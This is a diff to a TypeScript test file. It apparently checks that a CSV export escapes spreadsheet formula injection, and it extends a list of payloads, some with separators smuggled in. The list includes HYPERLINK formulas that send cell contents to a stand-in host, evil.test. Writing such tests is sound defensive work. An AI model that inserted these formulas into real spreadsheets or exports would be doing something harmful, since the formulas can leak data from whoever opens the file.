@@ -53,9 +53,19 @@ const formulas = [
   '@SUM(1+1)*cmd',
   '=HYPERLINK("https://evil.test?"&A1,"x")',
   '＝1+1',
+  'x;=HYPERLINK("https://evil.test","x")',
+  'x\t@SUM(1+1)',
+  'x|-1+1',
+  'x\n+1+1',
+  'x;"=1+1"',
 ]
+/** The cells of a file, wherever a spreadsheet of any country splits its rows. */
 const cellsOf = (csv: string): string[] =>
-  csv.split('\r\n').flatMap((row) => row.split(/,(?="|'|=|＝|[+@-])/))
+  [',', ';', '\t', '|'].flatMap((separator) =>
+    [
+      ...csv.matchAll(new RegExp(`"((?:[^"]|"")*)"(?=[${separator}\\r\\n]|$)|([^${separator}\\r\\n]+)`, 'g')),
+    ].map(([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain),
+  )
 
 export const exportsArea = area<BridgeClient>({
   name: 'exports',
